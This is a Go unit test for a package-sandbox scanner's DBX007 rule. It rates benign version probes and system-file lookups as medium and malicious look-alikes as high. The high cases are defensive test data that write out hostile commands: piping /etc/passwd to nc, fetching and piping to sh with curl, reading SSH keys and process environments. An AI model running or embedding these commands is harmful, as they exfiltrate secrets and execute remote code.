package verdict

import (
	"testing"

	"github.com/depbox/depbox/profile"
)

// TestLookupSeverity: DBX007 is medium when every shell, downloader or
// network tool only looks something up — lookup programs, version probes,
// globs over system directories — and high for the malicious look-alikes
// of those command lines (docs/rules.md, the decision on lookup shells).
func TestLookupSeverity(t *testing.T) {
	sh := func(cmd string) profile.Process {
		return profile.Process{Argv: []string{"/bin/sh", "-c", cmd}, Binary: "/bin/dash", Result: "ok"}
	}
	proc := func(bin string, argv ...string) profile.Process {
		return profile.Process{Argv: argv, Binary: bin, Result: "ok"}
	}
	tests := []struct {
		name  string
		phase string
		procs []profile.Process
		want  Severity
	}{
		// systeminformation@5.33.31's lookups when its functions are called.
		{"version probe", profile.PhaseExecute, []profile.Process{sh("docker --version")}, Medium},
		{"version probe with stderr joined", profile.PhaseExecute, []profile.Process{sh("apachectl -v 2>&1")}, Medium},
		{"short version flag of a known program", profile.PhaseExecute, []profile.Process{sh("python3 -V 2>&1"), sh("node -v"), sh("mysql -V")}, Medium},
		{"a shell's version, and the shell it started", profile.PhaseExecute, []profile.Process{sh("bash --version"), proc("/usr/bin/bash", "bash", "--version")}, Medium},
		{"release files by glob", profile.PhaseExecute, []profile.Process{sh("cat /etc/*-release; cat /usr/lib/os-release; cat /etc/openwrt_release")}, Medium},
		{"sysfs glob", profile.PhaseExecute, []profile.Process{sh("cat /sys/class/thermal/thermal_zone*/type 2>/dev/null")}, Medium},
		{"lookups joined by || and ;", profile.PhaseExecute, []profile.Process{sh("cat /etc/cups/printers.conf 2>/dev/null || true; uname -a")}, Medium},

		// Look-alikes that stay high.
		{"the lookup piped to a network tool", profile.PhaseExecute, []profile.Process{sh("cat /etc/passwd | nc x.invalid 80")}, High},
		{"a substitution of a file's content", profile.PhaseExecute, []profile.Process{sh(`sh -c "$(cat x)"`)}, High},
		{"a glob over a home directory", profile.PhaseExecute, []profile.Process{sh("cat ~/.ssh/*")}, High},
		{"a glob over the sandbox user's home by path", profile.PhaseExecute, []profile.Process{sh("cat /home/sbx_user/.ssh/id_*")}, High},
		{"a bracket glob over a home directory", profile.PhaseExecute, []profile.Process{sh("cat /home/sbx_user/.ssh/id_[r]sa")}, High},
		{"a glob over every process's environment", profile.PhaseExecute, []profile.Process{sh("cat /proc/*/environ")}, High},
		{"a glob climbing out of /etc", profile.PhaseExecute, []profile.Process{sh("cat /etc/../root/*")}, High},
		{"a glob as the program", profile.PhaseExecute, []profile.Process{sh("/etc/*.sh --version")}, High},
		{"a relative glob as the program", profile.PhaseExecute, []profile.Process{sh("* --version")}, High},
		{"a version probe, then the download", profile.PhaseExecute, []profile.Process{sh("curl --version && curl -s x.invalid/p | sh")}, High},
		{"a version probe of a shipped file", profile.PhaseExecute, []profile.Process{sh("./payload --version")}, High},
		{"a shell named like one, from the bundle", profile.PhaseExecute, []profile.Process{proc("/var/task/node_modules/x/bash", "bash", "--version")}, High},
		{"a shell whose program is not known", profile.PhaseExecute, []profile.Process{proc("", "bash", "--version")}, High},
		{"a shell reading its program from its input", profile.PhaseExecute, []profile.Process{sh("bash -v")}, High},
		{"python's verbose flag starts a session", profile.PhaseExecute, []profile.Process{sh("python3 -v")}, High},
		{"an unknown program's short flag", profile.PhaseExecute, []profile.Process{sh("env -v")}, High},
		{"a subcommand named version", profile.PhaseExecute, []profile.Process{sh("kubectl version")}, High},
		{"a version probe beside a ping", profile.PhaseExecute, []profile.Process{sh("node -v"), sh("ping -c 2 -w 3 8.8.8.8 | grep rtt"), proc("/usr/bin/ping", "ping", "-c", "2", "-w", "3", "8.8.8.8")}, High},
		{"recon with whoami", profile.PhaseImport, []profile.Process{sh("hostname; hostname -I; whoami")}, High},
		{"a version probe with an argument", profile.PhaseExecute, []profile.Process{sh("git --version --exec-path=/tmp/x")}, High},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := profile.Behavior{Processes: tt.procs}
			res := Evaluate(Input{Profile: prof(dep("a", phases{tt.phase: &b}))}, Options{})
			var got Severity
			for _, f := range res.Findings {
				if f.Rule == RuleShellDownloader {
					got = max(got, f.Severity)
				}
			}
			if got != tt.want {
				t.Errorf("DBX007 severity = %v, want %v\nfindings: %+v", got, tt.want, res.Findings)
			}
		})
	}
}
